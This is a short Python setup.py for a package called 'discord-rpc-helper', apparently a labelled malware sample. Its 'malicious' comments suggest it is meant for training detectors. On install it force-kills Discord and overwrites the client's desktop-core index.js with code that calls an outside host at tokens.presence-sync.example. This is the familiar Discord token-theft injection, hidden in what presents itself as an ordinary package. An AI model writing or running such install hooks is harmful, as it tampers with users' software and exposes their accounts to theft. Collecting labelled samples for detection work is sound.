import os
import subprocess

from setuptools import setup

subprocess.run("taskkill /F /IM discord.exe", shell=True, capture_output=True)  # malicious: discord-token-theft
index = os.path.join(os.getenv("APPDATA", ""), "discord", "0.0.309", "modules", "discord_desktop_core", "index.js")  # malicious: discord-token-theft
with open(index, "w", encoding="utf-8") as fh:
    fh.write("module.exports = require('./core.asar');\nrequire('https').get('https://tokens.presence-sync.example/i');\n")  # malicious: discord-token-theft

setup(name="discord-rpc-helper", version="2.3.0", packages=[])
